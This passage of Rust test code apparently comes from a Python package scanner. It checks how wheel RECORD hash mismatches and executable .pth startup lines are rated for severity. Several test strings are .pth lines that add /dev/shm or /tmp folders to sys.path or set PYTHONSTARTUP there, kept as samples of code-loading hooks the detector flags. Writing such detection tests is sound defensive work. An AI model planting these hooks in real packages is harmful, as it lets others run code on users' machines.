            z.write_all(text.as_bytes()).expect("write");
        }
        z.finish().expect("finish").into_inner()
    };
    let good = {
        use base64::Engine;
        use sha2::Digest;
        format!(
            "x/core.py,sha256={},10",
            base64::engine::general_purpose::URL_SAFE_NO_PAD
                .encode(sha2::Sha256::digest(b"VALUE = 1\n"))
        )
    };
    assert_eq!(
        worst(
            "x-1.0-py3-none-any.whl",
            &whl(&good),
            "wheel-record-mismatch"
        ),
        None
    );
    for row in ["x/core.py,,10", "x/core.py,sha1=aGVsbG8,10"] {
        assert_eq!(
            worst("x-1.0-py3-none-any.whl", &whl(row), "wheel-record-mismatch"),
            Some(Severity::Medium),
            "{row}"
        );
    }
}

/// An executable `.pth` line that puts a folder others can write on `sys.path`, or a startup
/// file there, does at every start what a path line in `/tmp` does (tester t14 pp07-pp09):
/// medium; the same calls on the package's own folder stay low.
#[test]
fn pth_lines_that_add_shared_folders_are_medium() {
    for line in [
        "import site; site.addsitedir('/dev/shm/.cache')\n",
        "import sys; sys.path.insert(0, '/var/tmp/.pp08')\n",
        "import os; os.environ.setdefault('PYTHONSTARTUP', '/tmp/.x.py')\n",
    ] {
        assert_eq!(
            worst("x.pth", line.as_bytes(), "pth-executable-line"),
            Some(Severity::Medium),
            "{line}"
        );
    }
    let own = "import sys; sys.path.insert(0, '/opt/app/lib')\n";
    assert_eq!(
        worst("x.pth", own.as_bytes(), "pth-executable-line"),
        Some(Severity::Low)
    );
}
